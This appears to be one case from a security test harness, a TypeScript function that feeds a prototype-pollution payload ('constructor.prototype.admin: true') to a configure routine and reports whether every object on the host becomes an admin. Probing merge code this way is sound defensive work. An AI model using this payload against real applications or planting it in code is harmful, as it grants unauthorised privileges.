// family: prototype-pollution
// bites: plain
// stopped: runtime
// note: JSON makes an own property of this name, and a naive merge walks into what it leads to
export default function attack(probe: { configure(settings: Record<string, unknown>): boolean }): string {
  const settings = JSON.parse('{"constructor": {"prototype": {"admin": true}}}') as Record<string, unknown>;
  return probe.configure(settings) ? "BITTEN:every record of the host is an admin" : "nothing";
}
